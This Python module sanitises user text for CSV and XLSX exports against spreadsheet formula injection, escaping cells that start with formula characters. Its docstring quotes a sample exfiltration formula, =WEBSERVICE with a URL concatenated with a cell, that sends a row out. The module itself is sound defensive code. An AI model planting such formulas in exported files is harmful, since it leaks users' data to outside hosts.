"""User text made safe for a spreadsheet, one rule for every export (CSV and XLSX).

Text that came from outside (a ledger row, a trip reason typed at the gate) can start with
``= + - @`` or a tab/CR; Excel and LibreOffice run such a CSV cell as a formula
(``=WEBSERVICE("http://…"&B3)`` sends the row out; ``=HYPERLINK`` invites a click). In CSV such
text gets a leading apostrophe; in XLSX every text is written as a string cell and never as a
formula (:mod:`.writer`), so it needs no apostrophe. Control characters that XML cannot hold are
removed in both.
"""

from __future__ import annotations

from datetime import date, datetime, time
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# C0 controls but tab, LF, CR: not allowed in XML 1.0, and meaningless in a cell.
_CONTROL = dict.fromkeys([c for c in range(32) if c not in (9, 10, 13)] + [0xFFFE, 0xFFFF])


def clean(text: str) -> str:
    """``text`` without characters a workbook cannot hold."""
    return text.translate(_CONTROL)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_text(value: Any) -> str:
    """One CSV cell: dates as Excel parses them back, 36.5 as ``36.5``, formula-like text with
    a leading apostrophe (numbers are never escaped: ``-3`` stays a number).

    The common exact types first (a 100,000-row export has millions of cells); printable text
    holds nothing :func:`clean` would remove, so it is not translated."""
    kind = type(value)
    if kind is str:
        text = value if value.isprintable() else clean(value)
        return "'" + text if text.startswith(FORMULA_START) else text
    if value is None:
        return ""
    if kind is float:
        return f"{value:.1f}"
    if kind is int:
        return str(value)
    if kind is datetime and value.tzinfo is None and value.year >= 1000:
        return value.isoformat(" ", "seconds")
    return _csv_other(value)


def _csv_other(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date | time):
        return value.isoformat()
    if isinstance(value, float):
        return f"{value:.1f}"
    if isinstance(value, int):
        return str(value)
    text = clean(str(value))
    return "'" + text if is_formula_like(text) else text
